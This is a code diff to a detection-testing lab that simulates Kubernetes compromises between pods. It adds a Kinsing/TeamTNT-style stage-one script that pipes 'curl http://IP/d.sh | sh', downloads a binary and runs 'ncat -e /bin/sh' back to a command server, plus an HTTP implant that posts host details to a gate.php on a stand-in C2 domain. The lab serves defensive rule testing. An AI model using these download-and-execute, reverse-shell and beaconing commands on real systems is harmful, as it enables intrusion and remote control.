@@ -5,8 +5,10 @@ node's pod range named as the cluster's): cold, on a fresh embedded default with
 period, so only rules that need no baseline can name the attacker.
 
 The tools are the real programs (Debian packages): nmap, masscan, hping3, hydra with OpenSSH, curl,
-iodine/iodined, dns2tcpc/dns2tcpd, ptunnel-ng, ncat, socat and openssl s_server, each against its own
-server in another pod; small clients where no packaged tool exists are in lab/lab_tools.py.
+iodine/iodined, dns2tcpc/dns2tcpd, ptunnel-ng, ncat, socat, dnsmasq and openssl s_server, each against
+its own server in another pod, and sh running what an attacker's scripts run; small clients where no
+packaged tool exists are in lab/lab_tools.py. A pod that resolves names asks dnsmasq in a pod of its
+own, as pods ask the cluster's DNS (``Node.resolve_with``).
 
 Hosts outside the cluster (a pool, a command server) are lab pods given documentation addresses
 (RFC 5737) reachable over the bridge only; the metadata stand-in holds 169.254.169.254. No route
@@ -274,24 +276,29 @@ def _reverse_shell(listener: list[str], shell: list[str], keystrokes: bool) -> C
         try:
             time.sleep(1.0)
             victim = node.start("web", *shell, **QUIET)
-            rng = random.Random(17)
             time.sleep(2.0)
-            for command in SHELL_COMMANDS:
-                if keystrokes:
-                    for char in command + "\n":
-                        operator.stdin.write(char.encode())
-                        operator.stdin.flush()
-                        time.sleep(rng.uniform(0.08, 0.25))
-                else:
-                    operator.stdin.write((command + "\n").encode())
-                    operator.stdin.flush()
-                # reading the output, thinking: people's think times are log-normal (a median of a
-                # couple of seconds, now and then much longer), bounded here so the scenario ends
-                time.sleep(min(8.0, rng.lognormvariate(math.log(2.0), 0.8)))
+            _operate(operator, keystrokes)
         finally:
             _stop(victim, operator)
 
     return attack
+
+
+def _operate(operator: subprocess.Popen, keystrokes: bool) -> None:
+    """The operator at the listener types SHELL_COMMANDS at a human pace, whole lines or key by key."""
+    rng = random.Random(17)
+    for command in SHELL_COMMANDS:
+        if keystrokes:
+            for char in command + "\n":
+                operator.stdin.write(char.encode())
+                operator.stdin.flush()
+                time.sleep(rng.uniform(0.08, 0.25))
+        else:
+            operator.stdin.write((command + "\n").encode())
+            operator.stdin.flush()
+        # reading the output, thinking: people's think times are log-normal (a median of a
+        # couple of seconds, now and then much longer), bounded here so the scenario ends
+        time.sleep(min(8.0, rng.lognormvariate(math.log(2.0), 0.8)))
 
 
 def _tls_server(node: Node, work: Path, *mode: str) -> subprocess.Popen:
@@ -385,6 +392,78 @@ def _tool_stream(node: Node, work: Path) -> None:
         _stop(server)
 
 
+STAGE_ONE = """#!/bin/sh
+# stage 1, as Kinsing's and TeamTNT's d.sh: fetch the next stage with curl (else wget), make it
+# executable and run it; here the stage is the channel home itself, a shell handed to the operator
+cd {workdir}
+curl -sf --max-time 10 -o kinsing http://{c2}/kinsing || wget -q -O kinsing http://{c2}/kinsing
+chmod +x kinsing
+exec ./kinsing {c2} {port} -e /bin/sh
+"""
+
+
+def _multi_stage(node: Node, work: Path) -> None:
+    """A Kubernetes compromise as Kinsing and TeamTNT run it: a remote code execution in the web pod (a
+    server) runs ``curl -s http://IP/d.sh | sh``; the stage-1 script fetches the stage-2 binary over
+    plain HTTP from the same host outside (a copy of ncat, an ELF) and runs it, which connects back to
+    the operator's listener on an odd port and hands it a shell; the operator types a short session."""
+    node.add_address("c2", C2_IP)
+    drop, landing = work / "drop", work / "web-tmp"  # the attacker's web root; where the script lands in the pod
+    drop.mkdir()
+    landing.mkdir()
+    (drop / "d.sh").write_text(STAGE_ONE.format(workdir=landing, c2=C2_IP, port=4448))
+    shutil.copy(shutil.which("ncat"), drop / "kinsing")
+    server = _serve_http(node, "c2", C2_IP, 80, drop)
+    operator = node.start("c2", "ncat", "-l", C2_IP, "4448", stdin=subprocess.PIPE, **QUIET)
+    victim = None
+    try:
+        time.sleep(1.0)
+        victim = node.start("web", "sh", "-c", f"curl -sf --max-time 10 http://{C2_IP}/d.sh | sh", **QUIET)
+        time.sleep(3.0)  # two downloads, then the connection back
+        _operate(operator, keystrokes=False)
+    finally:
+        _stop(victim, operator, server)
+
+
+C2_NAME = "telemetry.c2-lab.example"  # the check-in's command server, known to the lab's name server
+CHECK_IN_HANDLER = """cr=$(printf '\\r')
+length=0
+while read -r line; do
+    line=${line%"$cr"}
+    [ -z "$line" ] && break
+    case "$line" in [Cc]ontent-[Ll]ength:*) length=$((${line#*:})) ;; esac
+done
+head -c "$length" >/dev/null
+printf 'HTTP/1.1 200 OK\\r\\nContent-Type: text/plain\\r\\nContent-Length: 6\\r\\nConnection: close\\r\\n\\r\\nsleep\\n'
+"""
+
+
+def _http_post_check_ins(node: Node, work: Path) -> None:
+    """An HTTP implant's first check-ins to its panel, as stealers and loaders post to a gate script
+    (Lokibot's fre.php, AgentTesla's HTTP panel): it resolves its command server by name through the
+    cluster's name server (dnsmasq in a pod, answering the C2's name), then POSTs a small body (its id
+    and host name) with curl to port 80 five times, about every 12 s +-30%; a socat gate reads each
+    request and answers a task. Few check-ins, a name, the port's own protocol: the quiet end of C2."""
+    node.add_address("c2", C2_IP)
+    dns = node.start("dns", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
+                     f"--listen-address={node.pods['dns']}", "--bind-interfaces", "--port=53", "--user=root",
+                     f"--pid-file={work / 'dnsmasq.pid'}", f"--address=/{C2_NAME}/{C2_IP}", **QUIET)
+    node.resolve_with("implant", node.pods["dns"])
+    handler = work / "gate.sh"
+    handler.write_text(CHECK_IN_HANDLER)
+    gate = node.start("c2", "socat", f"TCP-LISTEN:80,bind={C2_IP},fork,reuseaddr", f"EXEC:sh {handler}", **QUIET)
+    rng = random.Random(17)
+    pauses = [12.0 * rng.uniform(0.7, 1.3) for _ in range(4)]
+    implant = "".join(f'curl -s -m 5 -o /dev/null -d "id=$id&host=$(hostname)&seq={i}" http://{C2_NAME}/gate.php\n'
+                      f"sleep {pause:.2f}\n" for i, pause in enumerate([*pauses, 0.0]))
+    try:
+        time.sleep(1.0)
+        node.run("implant", "sh", "-c", "id=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n')\n" + implant,
+                 check=True, capture_output=True, timeout=30 + sum(pauses))
+    finally:
+        _stop(gate, dns)
+
+
 def _wait_for(ready: Callable[[], bool], seconds: float) -> None:
     end = time.monotonic() + seconds
     while not ready():
@@ -437,6 +516,12 @@ SCENARIOS = (
              "http.server", "tool_transfer", "victim", ("victim", "c2"), _tool_download, ("curl",)),
     Scenario("ELF over a raw stream", "ncat --recv-only to ncat -l --send-only on 198.51.100.50:4446 sending a copy "
              "of /bin/true", "tool_transfer", "victim", ("victim", "c2"), _tool_stream, ("ncat",)),
+    Scenario("multi-stage infection", "curl http://198.51.100.50/d.sh | sh in the web pod; the script curls a stage "
+             "2 (a copy of ncat) and runs it as ncat -e /bin/sh to ncat -l on 4448; 10 commands typed as lines",
+             "beaconing|unusual_destination", "web", ("c2",), _multi_stage, ("curl", "ncat")),
+    Scenario("HTTP check-in, a few POSTs", f"curl -d ... http://{C2_NAME}/gate.php (resolved by dnsmasq in a pod) "
+             "5 times every 12 s +-30%, to a socat gate on 198.51.100.50:80", "beaconing|unusual_destination",
+             "implant", ("implant", "c2", "dns"), _http_post_check_ins, ("curl", "socat", "/usr/sbin/dnsmasq")),
 )
 
 
